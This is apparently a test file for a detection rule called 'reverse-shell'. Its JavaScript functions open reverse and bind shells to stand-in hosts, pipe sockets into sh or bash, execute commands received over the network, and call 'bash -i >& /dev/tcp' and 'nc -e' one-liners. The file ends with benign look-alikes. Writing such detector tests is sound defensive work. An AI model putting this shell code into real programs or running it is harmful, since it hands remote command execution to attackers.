import net from 'node:net';
import tls from 'tls';
import { exec, spawn } from 'node:child_process';
import cp from 'child_process';

var net_1 = require('net');

export function piped() {
  const client = new net.Socket();
  const shell = spawn('/bin/sh', []);
  client.connect(9000, 'shell.example.com', () => {
    // ruleid: reverse-shell
    client.pipe(shell.stdin);
    // ruleid: reverse-shell
    shell.stdout.pipe(client);
    // ruleid: reverse-shell
    shell.stderr.pipe(client);
  });
}

export function compiled() {
  const shell = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/bash', ['-i']);
  const socket = net_1.connect({ port: 9000, host: 'shell.example.com' });
  // ruleid: reverse-shell
  socket.pipe(shell.stdin);
}

export function inherited() {
  const socket = tls.connect(9000, 'shell.example.com');
  // ruleid: reverse-shell
  spawn('sh', [], { stdio: [socket, socket, socket] });
}

export function bound() {
  net.createServer((client) => {
    const shell = spawn('sh');
    // ruleid: reverse-shell
    shell.stdout.pipe(client);
  });
}

export function commanded() {
  const socket = net.createConnection(9000, 'shell.example.com');
  socket.on('data', (data) => {
    // ruleid: reverse-shell
    exec(data.toString(), (error, out) => socket.write(out));
  });
}

export function lines(host) {
  // ruleid: reverse-shell
  exec('bash -i >& /dev/tcp/192.0.2.1/9000 0>&1');
  // ruleid: reverse-shell
  exec(`nc ${host} 9000 -e /bin/sh`);
  // ruleid: reverse-shell
  spawn('bash', ['-c', 'bash -i >& /dev/tcp/192.0.2.1/9000 0>&1']);
}

export function bridge(socketPath, child, response) {
  const socket = net.connect(socketPath);
  // ok: reverse-shell
  process.stdin.pipe(socket);
  // ok: reverse-shell
  child.stdout.pipe(process.stdout);
  // ok: reverse-shell
  socket.pipe(process.stdout);
  socket.on('data', (data) => {
    const message = JSON.parse(data.toString());
    // ok: reverse-shell
    spawn(message.program, message.args);
  });
  const server = spawn('node', ['server.js']);
  // ok: reverse-shell
  server.stdout.pipe(socket);
  const found = pattern.exec(socket.remoteAddress);
  // ok: reverse-shell
  spawn('ls', [found]);
  // exec('bash -i >& /dev/tcp/192.0.2.1/9000 0>&1')
  // ok: reverse-shell
  return 'bash -i >& /dev/tcp/192.0.2.1/9000 0>&1';
}
